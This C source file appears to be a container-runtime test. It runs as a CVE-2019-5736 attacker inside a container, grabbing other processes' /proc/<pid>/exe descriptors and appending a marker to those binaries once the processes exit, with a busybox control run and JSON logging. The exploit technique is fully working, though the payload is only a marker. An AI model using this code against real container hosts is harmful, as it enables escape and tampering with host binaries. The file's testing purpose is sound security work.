/* exe_attacker.c — runs inside a test container as the CVE-2019-5736 attacker.
 *
 * It watches /proc for every other process that appears in its pid namespace, takes an O_PATH fd of its
 * /proc/<pid>/exe (what the original exploit did), waits for that process to exit and then reopens the
 * fd for writing and appends one byte. Binaries of the container's own rootfs are skipped. Before that,
 * a control run against a copy of busybox proves the technique works with the container's privileges.
 * Results go to /attack.log as JSON lines; it stops when /attack.stop exists or after 60 s.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAX_TARGETS 256
struct target { pid_t pid; int fd; char exe[256]; int done; };
static struct target t[MAX_TARGETS];
static int nt;
static FILE *logf;
static struct stat skip[8];
static int nskip;

static int skipped(const struct stat *st)
{
	for (int i = 0; i < nskip; i++)
		if (skip[i].st_dev == st->st_dev && skip[i].st_ino == st->st_ino)
			return 1;
	return 0;
}

static void try_write(struct target *x, const char *kind)
{
	char p[64];
	snprintf(p, sizeof(p), "/proc/self/fd/%d", x->fd);
	int open_errno = 0, write_errno = 0, wrote = 0;
	int w = open(p, O_WRONLY | O_APPEND);
	if (w < 0) {
		open_errno = errno;
	} else {
		if (write(w, "\n#HULL-CVE-2019-5736\n", 21) == 21)
			wrote = 1;
		else
			write_errno = errno;
		close(w);
	}
	fprintf(logf, "{\"kind\":\"%s\",\"pid\":%d,\"exe\":\"%s\",\"open_errno\":%d,\"write_errno\":%d,\"wrote\":%s}\n",
		kind, x->pid, x->exe, open_errno, write_errno, wrote ? "true" : "false");
	fflush(logf);
	close(x->fd);
	x->done = 1;
}

static int grab(pid_t pid, struct target *x)
{
	char p[64];
	snprintf(p, sizeof(p), "/proc/%d/exe", pid);
	int fd = open(p, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return -1;
	struct stat st;
	if (fstat(fd, &st) < 0 || skipped(&st)) {
		close(fd);
		return -1;
	}
	x->pid = pid;
	x->fd = fd;
	x->done = 0;
	ssize_t n = readlink(p, x->exe, sizeof(x->exe) - 1);
	x->exe[n > 0 ? n : 0] = 0;
	for (char *c = x->exe; *c; c++)
		if (*c == '"' || *c == '\\')
			*c = '_';
	return 0;
}

static int gone(pid_t pid)
{
	char p[64];
	snprintf(p, sizeof(p), "/proc/%d", pid);
	/* Zombies keep /proc/<pid>; as pid 1 we reap them below. */
	return access(p, F_OK) < 0;
}

static void control(void)
{
	/* A private copy of busybox, run as a child: the same steps must succeed on it. */
	int in = open("/bin/busybox", O_RDONLY), out = open("/tmp/victim", O_WRONLY | O_CREAT | O_TRUNC, 0755);
	char buf[65536];
	ssize_t n;
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, (size_t)n) != n)
			break;
	close(in);
	close(out);
	pid_t pid = fork();
	if (pid == 0) {
		execl("/tmp/victim", "sleep", "0.3", (char *)NULL);
		_exit(127);
	}
	struct target x;
	usleep(100000);
	if (grab(pid, &x) < 0) {
		fprintf(logf, "{\"kind\":\"control\",\"grab_errno\":%d,\"wrote\":false}\n", errno);
		fflush(logf);
		return;
	}
	waitpid(pid, NULL, 0);
	try_write(&x, "control");
}

int main(void)
{
	signal(SIGCHLD, SIG_DFL);
	logf = fopen("/attack.log", "a");
	if (!logf)
		return 1;
	const char *mine[] = { "/proc/self/exe", "/bin/busybox", "/hull-helper" };
	for (size_t i = 0; i < sizeof(mine) / sizeof(mine[0]); i++)
		if (stat(mine[i], &skip[nskip]) == 0)
			nskip++;
	control();
	struct stat victim;
	if (stat("/tmp/victim", &victim) == 0)
		skip[nskip++] = victim;
	fprintf(logf, "{\"kind\":\"ready\"}\n");
	fflush(logf);
	time_t end = time(NULL) + 60;
	pid_t self = getpid();
	while (time(NULL) < end && access("/attack.stop", F_OK) < 0) {
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			pid_t pid = atoi(e->d_name);
			if (pid <= 0 || pid == self)
				continue;
			int known = 0;
			for (int i = 0; i < nt; i++)
				if (t[i].pid == pid && !t[i].done)
					known = 1;
			if (!known && nt < MAX_TARGETS && grab(pid, &t[nt]) == 0)
				nt++;
		}
		if (d)
			closedir(d);
		for (int i = 0; i < nt; i++)
			if (!t[i].done && gone(t[i].pid))
				try_write(&t[i], "target");
	}
	/* Whatever is still running when told to stop: try anyway (ETXTBSY expected if still running). */
	for (int i = 0; i < nt; i++)
		if (!t[i].done)
			try_write(&t[i], "late");
	fprintf(logf, "{\"kind\":\"done\",\"targets\":%d}\n", nt);
	fclose(logf);
	return 0;
}
